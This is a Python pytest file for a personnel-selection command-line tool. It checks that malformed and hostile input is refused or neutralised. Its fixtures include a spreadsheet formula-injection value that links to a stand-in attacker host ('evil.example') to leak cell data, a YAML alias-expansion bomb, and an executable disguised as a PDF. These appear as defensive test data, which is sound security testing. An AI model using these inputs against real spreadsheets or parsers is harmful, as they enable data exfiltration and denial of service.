"""Bad input through the command line: one line on stderr, exit 2, nothing written, no hang."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
import typer

from qualify.limits import ID_MAX
from tests.conftest import PROJECT, Result

ROSTER = PROJECT / "docs" / "examples" / "roster.csv"
HEADER = "employee_id,name,rank,unit,supervisor,email\n"


@pytest.fixture
def q(cli: Callable[..., Result], database_url: str) -> Callable[..., Result]:
    """qualify as hr1 on a database with users, one open SRO selection and its roster."""

    def run(*args: str, user: str = "hr1") -> Result:
        return cli("--db", database_url, "--as", user, *args)

    assert run("init", "--admin", "hr1", "--role", "hr").exit_code == 0
    supervisors = [("sgt.moreau", "supervisor"), ("sgt.okafor", "supervisor")]
    for name, role in [("cmdr1", "commander"), *supervisors]:
        assert (
            run("user", "add", name, "--role", role, "--full-name", name, "--title", role).exit_code
            == 0
        )
    opened = run(
        "selection", "open", "SRO 2027", "--workflow", "sro-selection", "--as-of", "2027-01-15"
    )
    assert opened.exit_code == 0, opened.stderr
    assert run("candidate", "import", str(ROSTER), "--selection", "1").exit_code == 0
    return run


def refused(result: Result, *expected: str) -> None:
    """Exit 2 with one `error:` line containing each expected text, and no traceback."""
    assert result.exit_code == 2, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("error: ")
    for text in expected:
        assert text in lines[0]


def names(q: Callable[..., Result]) -> list[str]:
    return [c["name"] for c in json.loads(q("candidate", "list", "--json").stdout)]


def test_a_nul_byte_in_a_roster_is_refused_and_nothing_is_imported(
    q: Callable[..., Result], tmp_path: Path
) -> None:
    roster = tmp_path / "nul.csv"
    roster.write_bytes((HEADER + "MPD-2001,Ana\x00 Ruiz,Officer,Patrol,,\n").encode())
    before = names(q)
    refused(
        q("candidate", "import", str(roster), "--selection", "1"),
        "nul.csv:2: name: contains a NUL byte",
    )
    assert names(q) == before


ID_COMMANDS = [
    ("candidate", "show", "{}"),
    ("selection", "show", "{}"),
    ("check", "{}"),
    ("check", "--selection", "{}"),
    ("results", "{}"),
    ("declare", "{}"),
    ("score", "{}"),
    ("advance", "{}", "begin_screening"),
    ("audit", "log", "--candidate", "{}"),
    ("candidate", "list", "--selection", "{}"),
    ("candidate", "import", "x.csv", "--selection", "{}"),
    ("evidence", "add", "{}", "service"),
    ("panel", "show", "{}"),
    ("packet", "{}"),
    ("packet", "--selection", "{}"),
]


def test_ids_beyond_postgresqls_integer_are_usage_errors(
    cli: Callable[..., Result], tmp_path: Path
) -> None:
    url = f"sqlite:///{tmp_path / 'none.db'}"
    for number in (str(ID_MAX + 1), str(2**64), "99999999999999999999", "0", "-5"):
        for args in ID_COMMANDS:
            result = cli("--db", url, "--as", "hr1", *(number if a == "{}" else a for a in args))
            assert result.exit_code == 2, (args, number, result.stderr)
            assert "Traceback" not in result.stderr
            assert (
                "2147483647" in result.stderr
                or "equal to 1" in result.stderr
                or "-5" in result.stderr
            ), (args, number, result.stderr)


def test_every_id_option_of_every_command_is_bounded() -> None:
    """New commands cannot forget: every integer parameter named like a record id is bounded."""
    from qualify.cli.main import app

    def walk(command: typer.core.TyperGroup | typer.core.TyperCommand, path: str) -> list[str]:
        loose = []
        for param in command.params:
            seen.append(param.name or "")
            descriptor = getattr(param, "type_descriptor", None)
            annotation = str(getattr(descriptor, "annotation", ""))
            named = any(w in (param.name or "") for w in ("candidate", "selection", "_id"))
            bounds = (getattr(param, "min", None), getattr(param, "max", None))
            if "int" in annotation and named and bounds != (1, ID_MAX):
                loose.append(f"{path} {param.name}")
        for name, sub in getattr(command, "commands", {}).items():
            loose += walk(sub, f"{path} {name}")
        return loose

    seen: list[str] = []
    root = typer.main.get_command(app)
    assert isinstance(root, typer.core.TyperGroup)
    checked = walk(root, "qualify")
    assert checked == []
    assert len([n for n in seen if "candidate" in n or "selection" in n]) > 15


def test_a_user_name_longer_than_its_column_is_refused(q: Callable[..., Result]) -> None:
    refused(q("user", "add", "u" * 101, "--role", "hr"), "at most 100 characters")
    assert len(json.loads(q("user", "list", "--json").stdout)) == 4


def test_a_selection_title_longer_than_its_column_is_refused(q: Callable[..., Result]) -> None:
    result = q(
        "selection", "open", "T" * 201, "--workflow", "sro-selection", "--as-of", "2027-01-15"
    )
    refused(result, "TITLE: at most 200 characters")


def test_a_nul_byte_in_an_option_is_refused(q: Callable[..., Result]) -> None:
    refused(q("candidate", "add", "--selection", "1", "--employee-id", "X\x00", "--name", "A"))
    refused(q("evidence", "add", "1", "service", "--field", "full_time_since=2020\x00"))


@pytest.mark.parametrize("when", ["0001-01-01", "9999-12-31"])
def test_dates_off_the_calendar_the_checks_use_are_refused(
    q: Callable[..., Result], when: str
) -> None:
    refused(q("evidence", "add", "1", "service", "--date", when), "not between 1900-01-01")
    opened = q("selection", "open", "X", "--workflow", "sro-selection", "--as-of", when)
    refused(opened, "--as-of", "not between")


def test_a_file_that_is_not_a_sqlite_database_is_refused(
    cli: Callable[..., Result], tmp_path: Path
) -> None:
    junk = tmp_path / "junk.db"
    junk.write_bytes(os.urandom(4096))
    for args in (("init",), ("--as", "x", "user", "list")):
        refused(cli("--db", f"sqlite:///{junk}", *args), "is not a SQLite database")


def test_a_nul_byte_in_the_database_url_is_refused(cli: Callable[..., Result]) -> None:
    refused(cli("--db", "sqlite:///x%00y.db", "init"), "--db: the URL contains a NUL byte")


def test_output_folders_that_cannot_be_written_are_refused(
    q: Callable[..., Result], tmp_path: Path
) -> None:
    a_file = tmp_path / "a-file"
    a_file.write_text("x")
    refused(q("packet", "1", "-o", str(a_file)), "is a file, not a folder")
    refused(q("packet", "1", "-o", "/proc"), "-o /proc: cannot write there")
    refused(q("workflow", "diagram", "sro-selection", "-o", str(tmp_path / "no" / "d.mmd")))
    refused(q("workflow", "diagram", "sro-selection", "-o", "/proc"), "is a folder")
    refused(q("demo", "-o", str(a_file)), "is a file, not a folder")


def test_a_refused_run_leaves_no_output_folder_it_made(
    q: Callable[..., Result], tmp_path: Path
) -> None:
    """A missing -o folder is made for the run (see test_packet_cli); refused, it is gone."""
    folder = tmp_path / "new" / "packets"
    result = q("packet", "1", "--stage", "nominated", "-o", str(folder))
    assert result.exit_code == 1, result.stderr  # the folder is fine; the rules refuse
    assert not (tmp_path / "new").exists()


@pytest.fixture
def letter_args() -> list[str]:
    return ["--field", "author=sgt.moreau", "--field", "written_on=2026-11-02"]


def stored_files(database_url: str, tmp_path: Path) -> list[Path]:
    return [p for p in tmp_path.rglob("*") if p.is_file() and "-files" in str(p)]


def test_evidence_files_of_a_type_the_workflow_does_not_accept_are_refused(
    q: Callable[..., Result], tmp_path: Path, letter_args: list[str], database_url: str
) -> None:
    fake = tmp_path / "letter.pdf"
    fake.write_bytes(b"MZ\x90\x00 a program named like a PDF")
    refused(
        q("evidence", "add", "1", "recommendation", "--file", str(fake), *letter_args),
        "--file letter.pdf: is of a type qualify does not recognise; "
        "this field accepts PDF, PNG image or JPEG image",
    )
    text = tmp_path / "letter.txt"
    text.write_text("I recommend her.\n")
    refused(
        q("evidence", "add", "1", "recommendation", "--file", str(text), *letter_args),
        "is a plain text (UTF-8) file",
    )
    assert stored_files(database_url, tmp_path) == []
    scan = tmp_path / "scan.png"
    scan.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * 64)
    ok = q("evidence", "add", "1", "recommendation", "--file", str(scan), *letter_args)
    assert ok.exit_code == 0, ok.stderr


def test_evidence_files_over_the_size_limit_are_refused(
    q: Callable[..., Result],
    tmp_path: Path,
    letter_args: list[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    big = tmp_path / "big.pdf"
    big.write_bytes(b"%PDF-1.4\n" + b"0" * (1024 * 1024 + 1))
    monkeypatch.setenv("QUALIFY_MAX_EVIDENCE_MB", "1")
    refused(
        q("evidence", "add", "1", "recommendation", "--file", str(big), *letter_args),
        "--file",
        "the limit is 1 MB",
    )
    monkeypatch.setenv("QUALIFY_MAX_EVIDENCE_MB", "lots")
    refused(q("candidate", "list"), "QUALIFY_MAX_EVIDENCE_MB='lots'")


def test_evidence_files_must_not_be_symbolic_links(
    q: Callable[..., Result], tmp_path: Path, letter_args: list[str]
) -> None:
    real = tmp_path / "real.pdf"
    real.write_bytes(b"%PDF-1.4 letter")
    link = tmp_path / "link.pdf"
    link.symlink_to(real)
    refused(
        q("evidence", "add", "1", "recommendation", "--file", str(link), *letter_args),
        "is a symbolic link",
    )


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_fifo_given_as_a_roster_or_an_evidence_file_is_refused_at_once(
    q: Callable[..., Result], database_url: str, tmp_path: Path
) -> None:
    """In a real process with a timeout: on main both of these block for ever."""
    fifo = tmp_path / "roster.csv"
    os.mkfifo(fifo)
    commands = [
        ["candidate", "import", str(fifo), "--selection", "1"],
        ["evidence", "add", "1", "recommendation", "--file", str(fifo)],
    ]
    for args in commands:
        done = subprocess.run(
            [sys.executable, "-m", "qualify", "--db", database_url, "--as", "hr1", *args],
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        assert done.returncode == 2
        assert done.stderr.strip().splitlines() == [
            f"error: {'--file ' if 'evidence' in args else ''}{fifo}: is a pipe (FIFO), "
            "not a regular file"
        ]


def test_bad_yaml_workflows_are_refused_in_one_short_line(
    q: Callable[..., Result], tmp_path: Path
) -> None:
    bomb = tmp_path / "bomb.yaml"
    lines = ['a0: &a0 ["x","x","x","x","x","x","x","x","x"]']
    lines += [f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 8)]
    bomb.write_text("\n".join(lines))
    refused(q("workflow", "validate", str(bomb)), "bomb.yaml:6: stands for more than")
    deep = tmp_path / "deep.yaml"
    deep.write_text("name: " + "[" * 100_000 + "]" * 100_000)
    refused(q("workflow", "validate", str(deep)), "deep.yaml:1: nested deeper than 64 levels")


def test_a_workflow_with_an_infinite_weight_cannot_open_a_selection(
    q: Callable[..., Result], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "workflows"
    folder.mkdir()
    text = (PROJECT / "workflows" / "sro-selection.yaml").read_text()
    (folder / "sro-selection.yaml").write_text(text.replace("weight: 1.0", "weight: .inf", 1))
    monkeypatch.setenv("QUALIFY_WORKFLOWS", str(folder))
    result = q("selection", "open", "X", "--workflow", "sro-selection", "--as-of", "2027-01-15")
    assert result.exit_code == 2
    assert "weight: input should be a finite number (got inf)" in result.stderr
    assert q("audit", "verify").exit_code == 0


def test_formula_values_are_stored_as_given_and_exported_inert(
    q: Callable[..., Result], tmp_path: Path
) -> None:
    roster = tmp_path / "formulas.csv"
    roster.write_text(
        HEADER
        + '"=HYPERLINK(""http://evil.example/?""&A1,""click"")",Ana Ruiz,Officer,Patrol,,\n'
        + "+1-555-0100,Ben Ode,Officer,Patrol,,\n"
        + "@SUM(1),Cy Lam,Officer,Patrol,,\n"
        + "-2+3,Di Nu,Officer,Patrol,,\n"
    )
    imported = q("candidate", "import", str(roster), "--selection", "1")
    assert imported.exit_code == 0, imported.stderr
    listed = json.loads(q("candidate", "list", "--json").stdout)
    stored = {c["employee_id"] for c in listed}
    assert {'=HYPERLINK("http://evil.example/?"&A1,"click")', "+1-555-0100", "@SUM(1)", "-2+3"} <= (
        stored
    )
    target = tmp_path / "flow.csv"
    assert q("fairness", "flow", "1", "--csv", str(target)).exit_code == 0
    rows = list(csv.DictReader(target.read_text(encoding="utf-8").splitlines()))
    exported = {r["employee_id"] for r in rows}
    assert {
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'+1-555-0100",
        "'@SUM(1)",
        "'-2+3",
        "MPD-1042",
    } <= exported
    assert not any(e.startswith(("=", "+", "-", "@")) for e in exported)


def test_an_evidence_text_value_has_a_length_limit(q: Callable[..., Result]) -> None:
    refused(
        q(
            "evidence",
            "add",
            "1",
            "conduct_finding",
            "--date",
            "2020-01-01",
            "--field",
            "disposition=sustained",
            "--field",
            "summary=" + "x" * 2001,
        ),
        "at most 2,000",
    )


def test_a_very_long_acting_name_is_refused_in_one_line(q: Callable[..., Result]) -> None:
    result = q("candidate", "list", user="x" * 300)
    assert result.exit_code in (1, 2)
    assert "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
